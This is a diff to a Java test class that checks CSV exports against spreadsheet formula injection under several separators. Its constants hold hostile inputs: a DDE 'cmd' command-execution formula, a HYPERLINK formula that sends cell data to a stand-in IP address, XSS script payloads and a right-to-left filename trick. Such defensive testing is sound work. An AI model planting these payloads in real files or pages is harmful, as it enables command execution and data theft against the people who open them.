@@ -40,6 +40,8 @@ class HostileTextsTest {
 
     private static final String FORMULA = "=cmd|' /C calc'!A0";
     private static final String SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>\" onload=\"alert(3)";
+    private static final String SPLIT = "x;=1+1;\t=1+2\t;\"=1+3\";＝1+4;y\n=1+5\r@SUM(1);-2+3;+2;"
+            + "=HYPERLINK(\"http://192.0.2.1/?\"&A1);=cmd|'/C calc'!A0;z";
     private static final String TURNED = "\u202egnp.exe\u2066";
     private static final String FORBIDDEN = "前\u0001\u000b\ufffe\uffff后";
     private static final String EMOJI = "😀👩\u200d🏫";
@@ -79,12 +81,13 @@ class HostileTextsTest {
                 "safety_" + Papers.PRIMARY + "_2023-06.csv",
                 Papers.SAFETY + "hazard,H2,fire," + cell(FORMULA + SCRIPT + TURNED) + ",2023-03-01,2023-05-01,\n"
                         + "hazard,H3,fire," + cell(EMOJI + FORBIDDEN + LONG) + ",2023-03-01,2023-05-01,\n"
+                        + "hazard,H5,fire," + cell(SPLIT) + ",2023-03-01,2023-05-01,\n"
                         + "hazard,H4,fire," + cell("两\n行") + ",2023-03-01,2023-05-01,\n");
         desk.drop(
                 "ledger_230399_2023-06.csv",
                 "item_id,responsible_unit,measure,progress,note\nsafety.hazard/" + Papers.PRIMARY + "/H2,"
                         + cell(FORMULA + SCRIPT + FORBIDDEN) + "," + cell(FORMULA + TEMPLATE) + "," + cell(LONG) + ","
-                        + cell(TURNED + EMOJI) + "\n");
+                        + cell(TURNED + EMOJI + SPLIT) + "\n");
         Desk.Said said = desk.call("run", "--period", PERIOD);
         assertThat(said.exit()).as(said.out() + said.err()).isIn(0, 3);
     }
@@ -129,6 +132,40 @@ class HostileTextsTest {
         }
         assertThat(tables).hasSizeGreaterThan(20);
         assertThat(formulas).isEmpty();
+    }
+
+    /** Also with separators that are not ours, as computers in other countries have them. */
+    @ParameterizedTest
+    @ValueSource(chars = {',', ';', '\t'})
+    void areTextsWhenAnOfficeProgramOpensATable(char separator) throws Exception {
+        Office.isNeeded("soffice");
+        Path place = Files.createDirectories(folder.resolve("tables-" + (int) separator));
+        List<Path> tables = List.of(
+                result("ledger.csv"),
+                result("schools.csv"),
+                result("area-5-enforcement.csv"),
+                desk.feedbackFile(Papers.PRIMARY, "safety_" + Papers.PRIMARY + "_2023-06.csv"));
+
+        new Office(place).openTables(separator, tables);
+
+        List<String> shown = new ArrayList<>();
+        List<String> formulas = new ArrayList<>();
+        for (Path table : tables) {
+            Path opened = place.resolve(table.getFileName().toString().replaceFirst("\\.csv$", ".xlsx"));
+            try (InputStream in = Files.newInputStream(opened);
+                    XSSFWorkbook book = new XSSFWorkbook(in)) {
+                for (Row row : book.getSheetAt(0)) {
+                    for (Cell cell : row) {
+                        if (cell.getCellType() == CellType.FORMULA) {
+                            formulas.add(table.getFileName() + " " + cell.getAddress() + ": " + cell.getCellFormula());
+                        }
+                        shown.add(cell.getCellType() == CellType.STRING ? cell.getStringCellValue() : "");
+                    }
+                }
+            }
+        }
+        assertThat(formulas).isEmpty();
+        assertThat(shown).anyMatch(text -> text.contains("=cmd|") && !text.startsWith("="));
     }
 
     private static void note(Path table, String text, List<String> formulas) {
